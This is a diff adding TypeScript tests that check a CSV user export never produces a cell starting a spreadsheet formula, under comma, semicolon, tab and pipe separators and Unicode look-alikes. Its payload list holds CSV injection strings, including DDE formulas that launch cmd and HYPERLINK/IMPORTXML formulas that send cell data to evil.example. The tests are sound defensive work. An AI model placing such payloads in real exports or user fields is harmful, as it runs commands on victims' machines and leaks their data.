@@ -2,6 +2,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { CSV_BOM, csvCell, csvLine, userCsvHeader, userCsvLine } from '../../../src/tree/csv';
+import { parse } from 'csv-parse/sync';
 import { parseCsv } from './parseCsv';
 
 test('plain cells stay bare; commas, quotes and line breaks are quoted', () => {
@@ -38,4 +39,80 @@ test('CJK names and every column round-trip through a CSV reader', () => {
   assert.equal(get(pending, 'status'), 'pending');
   assert.equal(first.length, header.length);
   assert.equal(csvLine(['a', 'b']), 'a,b\r\n');
+});
+
+// OWASP "CSV Injection" and PayloadsAllTheThings payloads, plus the separator and full-width tricks.
+const PAYLOADS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '=cmd|\' /C calc\'!A0',
+  '=cmd|\' /C notepad\'!\'A1\'',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '+cmd|\' /C calc\'!A0',
+  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click for details")',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=IMAGE("http://evil.example/x.png")',
+  'DDE ("cmd";"/C calc";"!A0")A0',
+  '=1+2";=1+2',
+  '=1+2\'" ;,=1+2',
+  '\n-1+1',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '"=1+1',
+  'Bob;=1+1',
+  'Bob;"=1+1',
+  'Bob; @SUM(1)',
+  'Bob|=1+1',
+  'Bob\t=1+1',
+  'Bob,=1+1',
+  'two\nlines\r\n=1+1',
+  '＝1+1',
+  'Bob；＝1+1',
+  '﹦1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '⁼1',
+];
+
+/** Every cell a spreadsheet would see when it reads `text` with this list separator (quotes only count at a cell's start). */
+function cellsAs(text: string, delimiter: string): string[] {
+  return (parse(text, { delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).flat();
+}
+
+/** A cell that starts a formula: its first character past blanks and quotes folds (NFKC) to = + - @. */
+function startsFormula(cell: string): boolean {
+  const first = cell.replace(/^[\s"]+/, '').slice(0, 1).normalize('NFKC');
+  return first !== '' && '=+-@'.includes(first) && !/^[+-]?\d+(\.\d+)?$/.test(cell.trim());
+}
+
+test('no cell of an export starts a formula in a comma, semicolon, tab or pipe locale (OWASP payloads)', () => {
+  for (const payload of PAYLOADS) {
+    const user = {
+      id: payload, email: `${payload}@example.com`, type: 1, display_name: payload, first_name: payload, last_name: 'Smith',
+      dept: `R&D ${payload}`, status: 'active' as const, group_ids: ['g1', payload],
+    };
+    const text = userCsvHeader() + userCsvLine(user);
+    for (const delimiter of [',', ';', '\t', '|']) {
+      const formula = cellsAs(text, delimiter).find(startsFormula);
+      assert.equal(formula, undefined, `${JSON.stringify(payload)} gives the formula cell ${JSON.stringify(formula)} with separator ${JSON.stringify(delimiter)}`);
+    }
+    // Read with the file's own separator, every column is still one cell and the text is all there.
+    const [header, row] = parse(text, { relax_column_count: false }) as string[][];
+    assert.equal(row.length, header.length, JSON.stringify(payload));
+    assert.equal(row[header.indexOf('display_name')].replace(/'/g, ''), payload.replace(/'/g, ''), JSON.stringify(payload));
+  }
+});
+
+test('the formula guard covers every character Unicode folds into = + - @', () => {
+  for (let code = 0; code <= 0xffff; code++) {
+    if (code >= 0xd800 && code < 0xe000) continue;
+    const char = String.fromCharCode(code);
+    if (char.length !== 1 || !'=+-@'.includes(char.normalize('NFKC'))) continue;
+    assert.ok(csvCell(`${char}1+1`).startsWith("'"), `U+${code.toString(16)} ${char} at the start`);
+    assert.ok(csvCell(`Bob;${char}1+1`).includes(`;'${char}`), `U+${code.toString(16)} ${char} after a semicolon`);
+  }
 });
